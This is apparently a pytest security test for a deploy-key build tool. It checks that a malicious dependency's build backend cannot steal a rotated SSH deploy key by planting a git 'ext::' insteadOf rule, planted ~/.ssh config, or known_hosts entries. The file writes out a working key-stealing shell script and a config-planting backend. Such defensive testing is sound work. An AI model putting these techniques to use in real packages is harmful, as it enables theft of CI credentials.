"""Build N attacks build N+1 through git's own configuration (issue 22).

Build N has a hostile private dependency: its PEP 517 backend writes a git config file where git
looks for one (`$HOME/.gitconfig`, `~/.config/git/config`, an include chain, `/etc/gitconfig`):
an `ext::` insteadOf rule for the private repository's URL, with `protocol.ext.allow=always`. The
ext command copies everything it can find of the key dir to a loot dir outside every scanned place.
Build N+1, with the dependency removed and the key ROTATED (a new key registered at the git server,
the old one removed), keeps HOME (a CI runner, a laptop, a Docker layer) and the build cache: its
fetch, the one step with the key, must not run that command, the new key must be in no place the
attack can read, and it installs the host's code or fails clearly, in every mode.

/etc/gitconfig is written in a mount namespace of the test's own (a file bind-mounted over it), so
that the machine's, which other builds on it read, is never touched.
"""

from __future__ import annotations

import contextlib
import os
import pwd
import re
import shlex
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from conftest import (
    BIN,
    KIT,
    UTILS_REQUIREMENT,
    Build,
    GeneratedKey,
    files_with_key,
    flit_package,
    make_key,
    text_has_key,
)
from support.gitserver import GitServer

# Where build N's code writes its git config: (path, given HOME) -> files to write.
PLACES = ("home", "xdg", "include", "system")
MODES = ("venv", "handoff", "app-hooks", "fetch-install", "ci-setup")

# Written by build N's backend; {loot} and the config place are filled in when it runs.
ATTACK_SCRIPT = r"""#!/bin/sh
# The ext:: command git runs for the private URL: take the key dir, wherever it is.
loot={loot}
mkdir -p "$loot"
env > "$loot/env.$$"
set -- $GIT_SSH_COMMAND
[ -n "${{2:-}}" ] && cp -r "$(dirname "$2")" "$loot/from-ssh-command.$$" 2>/dev/null
for dir in /dev/shm/deploykey-???????? "${{TMPDIR:-/tmp}}"/deploykey-????????; do
  [ -d "$dir" ] && cp -r "$dir" "$loot/" 2>/dev/null
done
exit 1
"""

BACKEND = r"""
import os
from flit_core import buildapi as _flit

PLACE = {place!r}
SCRIPT = {script!r}

def _write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)

def _plant():
    home = os.environ["HOME"]
    script = os.path.join(home, ".cache", "deploykey-attack.sh")
    _write(script, SCRIPT.format(loot=os.path.join(os.path.dirname(home), "loot")))
    rules = (
        '[url "ext::sh ' + script + ' "]\n'
        "\tinsteadOf = ssh://git@github.com/acme/private-utils\n"
        '[protocol "ext"]\n\tallow = always\n'
    )
    if PLACE == "home":
        _write(os.path.join(home, ".gitconfig"), rules)
    elif PLACE == "xdg":
        _write(os.path.join(home, ".config", "git", "config"), rules)
    elif PLACE == "include":  # an include chain: ~/.gitconfig -> one file -> the rules
        first = os.path.join(home, ".config", "first.inc")
        second = os.path.join(home, ".local", "second.inc")
        _write(os.path.join(home, ".gitconfig"), "[include]\n\tpath = " + first + "\n")
        _write(first, "[include]\n\tpath = " + second + "\n")
        _write(second, rules)
    elif PLACE == "system":
        with open("/etc/gitconfig", "a") as f:
            f.write(rules)

def build_wheel(*args, **kwargs):
    _plant()
    return _flit.build_wheel(*args, **kwargs)

get_requires_for_build_wheel = _flit.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _flit.prepare_metadata_for_build_wheel
"""


def attack_repo(server: GitServer, place: str) -> str:
    name = f"acme/gitconfig-{place}"
    if not (server.root / "repos" / f"{name}.git").exists():
        package = f"gitconfig_{place}"
        backend = BACKEND.format(place=place, script=ATTACK_SCRIPT)
        server.add_repo(
            name,
            {
                **flit_package(package, "1.0", backend="attack_backend"),
                "attack_backend.py": backend,
            },
        )
    return name


def revoke(server: GitServer, key: GeneratedKey) -> None:
    """The old deploy key removed at the git server (rotation's second half)."""
    for name in ("authorized_keys", "access"):
        path = server.root / name
        kept = [line for line in path.read_text().splitlines() if key.label not in line.split()]
        kept = [line for line in kept if f' {key.label}"' not in line]
        path.write_text("".join(line + "\n" for line in kept))


class Machine:
    """Builds on one machine whose HOME and build cache persist between them; with `system`, in a
    mount namespace where /etc/gitconfig is a file of the test's own."""

    def __init__(self, build: Build, place: str) -> None:
        self.build = build
        self.prefix: list[str] = []
        if place == "system":
            etc = build.root / "etc-gitconfig"
            real = Path("/etc/gitconfig")
            etc.write_bytes(real.read_bytes() if real.exists() else b"")
            mount = f'mount --bind {shlex.quote(str(etc))} /etc/gitconfig && exec "$@"'
            self.prefix = ["unshare", "-m", "sh", "-c", mount, "sh"]

    def run(self, argv: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*self.prefix, *argv], cwd=self.build.app, env=env, capture_output=True, text=True
        )

    def bash(self, script: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
        return self.run(["bash", "-c", "set -euo pipefail\n" + script], env)


def heroku(build: Build, **extra: str) -> dict[str, str]:
    return build.environ(STACK="heroku-24", **extra)


def venv_pip(build: Build) -> str:
    venv = build.root / "python"
    if not venv.exists():
        subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    return f"{venv}/bin/pip install --no-input --no-cache-dir -r requirements.txt"


def run_mode(machine: Machine, mode: str, key: GeneratedKey) -> subprocess.CompletedProcess[str]:
    """One whole build in `mode`, the key given as the platform gives it; the installer builds
    every package (build code runs)."""
    build = machine.build
    build.set_key(key.text)
    app, cache, env_dir = str(build.app), str(build.cache), str(build.env_dir)
    if mode == "venv":
        return machine.run(
            [str(BIN / "compile"), app, cache, env_dir], heroku(build, DEPLOYKEY_INSTALL="venv")
        )
    if mode == "handoff":  # deploykey's compile, then heroku/python's pip with the exports
        script = f"""
            {BIN}/compile {app} {cache} {env_dir}
            . {KIT / "export"}
            {venv_pip(build)}
        """
        return machine.bash(script, heroku(build, DEPLOYKEY_INSTALL="off"))
    if mode == "app-hooks":  # heroku-buildpack-python's sub_env exports the config vars
        subprocess.run([str(BIN / "deploykey"), "hooks", app], check=True, capture_output=True)
        given = heroku(build, ENV_DIR=env_dir, CACHE_DIR=cache, BUILD_DIR=app)
        script = f"""
            DEPLOY_KEY="$(cat {env_dir}/DEPLOY_KEY)" bin/pre_compile
            {venv_pip(build)}
            DEPLOY_KEY= bin/post_compile
        """
        return machine.bash(script, given)
    if mode == "fetch-install":  # the Docker example's two RUN steps, one cache mount
        kit = BIN / "deploykey"
        venv = build.root / "venv"
        script = f"""
            {kit} fetch --cache-dir {cache} --env-dir {env_dir}
            {kit} install --fetched --cache-dir {cache} --venv {venv}
        """
        return machine.bash(script, build.environ())
    if mode == "ci-setup":  # the secret given to the setup step only
        script = f"""
            DEPLOY_KEY="$(cat {env_dir}/DEPLOY_KEY)" {BIN}/deploykey setup --shell \
                --cache-dir {cache} > {build.root}/exports
            . {build.root}/exports
            {venv_pip(build)}
            eval "$({BIN}/deploykey cleanup --shell)"
        """
        return machine.bash(script, build.environ())
    raise AssertionError(mode)


def next_build(
    build: Build, utils_key: GeneratedKey, keys_dir: Path, place: str, mode: str
) -> tuple[subprocess.CompletedProcess[str], GeneratedKey, Path]:
    """Build N with the hostile dependency, then build N+1 without it and with a rotated key:
    N+1's result, the new key, and the loot dir."""
    server = build.server
    attack = attack_repo(server, place)
    server.grant(utils_key.label, utils_key.public, [attack, "acme/private-utils"])
    machine = Machine(build, place)
    package = f"gitconfig-{place}"
    requirement = f"{package} @ git+ssh://git@github.com/{attack}.git@v1.0"
    (build.app / "requirements.txt").write_text(requirement + "\n")
    first = run_mode(machine, mode, utils_key)
    out = first.stdout + first.stderr
    assert first.returncode == 0, out  # build N went well: the attack is planted, silently
    (KIT / "export").unlink(missing_ok=True)
    # The user removes the dependency and rotates the key.
    new = make_key(keys_dir)
    server.grant(new.label, new.public, ["acme/private-utils"])
    revoke(server, utils_key)
    (build.app / "requirements.txt").write_text(UTILS_REQUIREMENT + "\n")
    second = run_mode(machine, mode, new)
    (KIT / "export").unlink(missing_ok=True)
    return second, new, build.root / "loot"


def assert_not_taken(
    build: Build,
    key: GeneratedKey,
    result: subprocess.CompletedProcess[str],
    loot: Path,
    place: str,
) -> None:
    out = result.stdout + result.stderr
    stolen = files_with_key([loot], key.text) if loot.exists() else []
    assert stolen == [], f"the ext command took the new key: {stolen}"
    # The ext command never ran with the key dir reachable: it found no key dir at all.
    taken = sorted(str(p.relative_to(loot)) for p in loot.rglob("*")) if loot.exists() else []
    assert [name for name in taken if "deploykey-" in name or "from-ssh" in name] == [], taken
    assert files_with_key([build.home, build.cache, build.app], key.text) == []
    assert not text_has_key(out, key.text)
    # The fetch went well; the installer, whose git reads that config, never started: the build
    # fails clearly, naming the file with the rule.
    origin = {
        "home": build.home / ".gitconfig",
        "xdg": build.home / ".config" / "git" / "config",
        "include": build.home / ".local" / "second.inc",
        "system": Path("/etc/gitconfig"),
    }[place]
    assert result.returncode != 0, out
    assert "v1.0 is " in out and "(fetched)" in out, out
    assert (
        f" !     {origin} sends ssh://git@github.com/acme/private-utils somewhere other than "
        "deploykey's mirror"
    ) in out
    assert "(gitconfig::rewrite: README.md#gitconfig-rewrite)" in out
    assert "Successfully installed" not in out and not (loot.exists() and taken), taken


@pytest.fixture
def rotating(build: Build, utils_key: GeneratedKey, keys_dir: Path) -> Callable[..., None]:
    def check(place: str, mode: str) -> None:
        result, new, loot = next_build(build, utils_key, keys_dir, place, mode)
        assert_not_taken(build, new, result, loot, place)
        # Its own key dir is gone (other builds on this machine may have theirs right now).
        made = re.findall(r"ssh config in (\S+)", result.stdout + result.stderr)
        assert made and not any(Path(path).exists() for path in made)

    return check


@pytest.mark.parametrize("place", PLACES)
def test_planted_git_config_in_a_venv_compile(rotating: Callable[..., None], place: str) -> None:
    rotating(place, "venv")


@pytest.mark.parametrize("mode", [m for m in MODES if m != "venv"])
def test_planted_gitconfig_in_every_mode(rotating: Callable[..., None], mode: str) -> None:
    rotating("home", mode)


# ---------------------------------------------------------------- ~/.ssh is never read


@pytest.fixture
def root_ssh() -> Iterator[Path]:
    """The passwd home's ~/.ssh (OpenSSH reads ~/.ssh from the passwd entry, not $HOME): made if
    missing, and only ever written through a bind mount in a namespace of the test's own."""
    ssh_dir = Path(pwd.getpwuid(os.getuid()).pw_dir) / ".ssh"
    made = not ssh_dir.exists()
    if made:
        ssh_dir.mkdir(mode=0o700)
    try:
        yield ssh_dir
    finally:
        if made:
            with contextlib.suppress(OSError):
                ssh_dir.rmdir()  # only if still empty: another process may use it now


def test_planted_ssh_files_are_never_read(build: Build, keys_dir: Path, root_ssh: Path) -> None:
    """Build code can write ~/.ssh in HOME and in the passwd home: a config whose ProxyCommand
    runs a program, a known_hosts that revokes the real host key, an id_ed25519 the host accepts.
    deploykey's ssh (`-F` its own config) reads none of them: the fetch goes to the pinned host
    with the deploy key only. The control, plain ssh, reads them."""
    server = build.server
    planted_key = make_key(keys_dir)  # the host accepts it; the deploy key is not registered
    server.grant(planted_key.label, planted_key.public, ["acme/private-utils"])
    fake = build.root / "passwd-home-ssh"
    marker = build.root / "proxy-command-ran"
    for ssh_dir in (fake, build.home / ".ssh"):
        ssh_dir.mkdir(mode=0o700)
        (ssh_dir / "config").write_text(
            f"Host *\n  ProxyCommand sh -c 'touch {marker}'\n"
            f"  IdentityFile {ssh_dir / 'id_ed25519'}\n  StrictHostKeyChecking no\n"
        )
        (ssh_dir / "known_hosts").write_text(
            f"@revoked * {server.host_key_public}\n"
            f"[127.0.0.1]:{server.port} {server.host_key_public}\n"
        )
        (ssh_dir / "id_ed25519").write_bytes(planted_key.path.read_bytes())
        (ssh_dir / "id_ed25519").chmod(0o600)
    mount = f'mount --bind {shlex.quote(str(fake))} {shlex.quote(str(root_ssh))} && exec "$@"'
    prefix = ["unshare", "-m", "sh", "-c", mount, "sh"]
    # The control: plain ssh to the server runs the planted ProxyCommand.
    control = subprocess.run(
        [*prefix, "ssh", "-T", "-p", str(server.port), "git@127.0.0.1"],
        env=build.environ(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert marker.exists(), control.stdout + control.stderr
    marker.unlink()
    build.set_key(make_key(keys_dir).text)  # registered nowhere
    asked = len(server.log())
    result = subprocess.run(
        [*prefix, str(BIN / "compile"), str(build.app), str(build.cache), str(build.env_dir)],
        env=build.environ(),
        capture_output=True,
        text=True,
        timeout=300,
    )
    out = result.stdout + result.stderr
    assert not marker.exists(), out
    # The deploy key only (the host refuses it for this repository), never the planted key, and
    # the pinned host key (the planted known_hosts revokes it).
    assert result.returncode == 1, out
    assert "github.com refused the key" in out and "REVOKED" not in out, out
    assert [line for line in server.log()[asked:] if line.split()[0] == planted_key.label] == []


def test_install_fetched_refuses_a_rule_planted_after_the_fetch(
    build: Build, utils_key: GeneratedKey
) -> None:
    """A Docker step between `fetch` and `install --fetched` (or build code in an earlier layer)
    writes the rule: the install, which has no key, still never lets its git obey it."""
    secrets = build.root / "secrets"
    secrets.mkdir()
    (secrets / "DEPLOY_KEY").write_text(utils_key.text)
    kit, cache, venv = str(BIN / "deploykey"), str(build.cache), str(build.root / "venv")

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [kit, *args], cwd=build.app, env=build.environ(), capture_output=True, text=True
        )

    fetched = run("fetch", "--cache-dir", cache, "--env-dir", str(secrets))
    assert fetched.returncode == 0, fetched.stdout + fetched.stderr
    (build.home / ".gitconfig").write_text(
        '[url "file:///elsewhere/private-utils.git"]\n'
        "\tinsteadOf = ssh://git@github.com/acme/private-utils.git\n"
    )
    installed = run("install", "--fetched", "--cache-dir", cache, "--venv", venv)
    out = installed.stdout + installed.stderr
    assert installed.returncode == 1, out
    assert (
        f" !     {build.home / '.gitconfig'} sends ssh://git@github.com/acme/private-utils "
        "somewhere other than deploykey's mirror"
    ) in out
    assert "Installing" not in out
